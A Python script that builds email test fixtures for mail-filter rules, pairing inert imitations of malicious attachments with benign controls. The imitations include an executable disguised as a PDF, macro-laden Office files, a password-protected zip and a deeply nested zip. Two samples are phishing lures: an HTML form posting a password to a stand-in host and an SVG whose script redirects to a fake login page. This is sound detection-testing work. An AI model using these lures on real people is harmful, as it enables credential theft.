# Builds the attachment fixtures of rules/tests (run from the repository root: python3 rules/tests/messages/make-attachments.py).
import base64, io, os, struct, zipfile

out = os.path.join(os.path.dirname(os.path.abspath(__file__)))

def eml(name, subject, files, body="Please see the attached file."):
    b = "BOUNDARYfx"
    parts = [f"From: Sender <sender@remote.test>\r\nTo: user@example.test\r\nSubject: {subject}\r\nDate: Sat, 28 Nov 2026 10:00:00 +0000\r\nMessage-ID: <{name}@remote.test>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"{b}\"\r\n\r\n--{b}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{body}\r\n"]
    for filename, ctype, data in files:
        enc = base64.encodebytes(data).decode().replace("\n", "\r\n")
        parts.append(f"--{b}\r\nContent-Type: {ctype}; name=\"{filename}\"\r\nContent-Disposition: attachment; filename=\"{filename}\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{enc}")
    parts.append(f"--{b}--\r\n")
    with open(os.path.join(out, name + ".eml"), "w", newline="") as f:
        f.write("".join(parts))

def zipped(entries):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for n, d in entries:
            z.writestr(n, d)
    return buf.getvalue()

pe = b"MZ" + b"\x90\x00" * 31 + b"\x00" * 60 + b"This program cannot be run in DOS mode.\r\r\n$" + b"\x00" * 200
ole = bytes([0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]) + b"\x00" * 504
ole_vba = ole + "Root Entry".encode("utf-16le") + b"\x00" * 50 + "_VBA_PROJECT".encode("utf-16le") + b"\x00" * 200
# BIFF8 BOUNDSHEET (0x0085), size 14: position, visible, type 1 (macro sheet), name "Macro1" (6 chars, 8-bit)
xls_xlm = ole + "Workbook".encode("utf-16le") + b"\x00" * 40 + struct.pack("<HHIBBBB", 0x85, 14, 1234, 0, 1, 6, 0) + b"Macro1" + b"\x00" * 100
pdf = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
docx_vba = zipped([("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<w:document/>"), ("word/vbaProject.bin", ole_vba)])
docx_plain = zipped([("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<w:document/>")])
xlsx_xlm = zipped([("[Content_Types].xml", "<Types/>"), ("xl/workbook.xml", "<workbook/>"), ("xl/macrosheets/sheet1.xml", "<xm:macrosheet/>")])
enc = bytearray(zipped([("invoice.exe", pe)]))
i = enc.find(b"PK\x03\x04"); enc[i + 6] |= 1
i = enc.find(b"PK\x01\x02"); enc[i + 8] |= 1
html_form = b"<!DOCTYPE html><html><body><form action=\"https://collect.example.net/p\" method=\"post\"><input name=\"password\" type=\"password\"></form></body></html>"
html_plain = b"<!DOCTYPE html><html><body><h1>Minutes</h1><p>Notes of the meeting.</p></body></html>"
svg_script = b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>window.location='https://login.example.net/'+atob('dXNlcg==')</script></svg>"

eml("attachment-pdf-that-is-exe", "Invoice 4411", [("invoice.pdf", "application/pdf", pe)])
eml("attachment-real-pdf", "Invoice 4412", [("invoice.pdf", "application/pdf", pdf)])
eml("attachment-doc-with-vba", "Report", [("report.doc", "application/msword", ole_vba)])
eml("attachment-xls-with-xlm", "Figures", [("figures.xls", "application/vnd.ms-excel", xls_xlm)])
eml("attachment-docx-with-vba", "Report", [("report.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", docx_vba)])
eml("attachment-xlsx-with-macrosheet", "Figures", [("figures.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", xlsx_xlm)])
eml("attachment-docx-plain", "Report", [("report.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", docx_plain)])
eml("attachment-encrypted-zip", "Invoice, password 4411", [("invoice.zip", "application/zip", bytes(enc))], "The password is 4411.")
eml("attachment-html-form", "Secure message", [("message.html", "text/html", html_form)])
eml("attachment-html-plain", "Minutes", [("minutes.html", "text/html", html_plain)])
eml("attachment-svg-script", "Voice message", [("voicemail.svg", "image/svg+xml", svg_script)])
eml("attachment-shell-script", "[PATCH] reproducer", [("repro.sh", "text/x-sh", b"#!/bin/sh\nset -e\nmake -j4 && ./run-test\n")], "The reproducer is attached.")
nested = zipped([("payload.exe", pe)])
for level in range(6):
    nested = zipped([(f"level{level}.zip", nested)])
eml("attachment-nested-zip", "Documents", [("documents.zip", "application/zip", nested)])
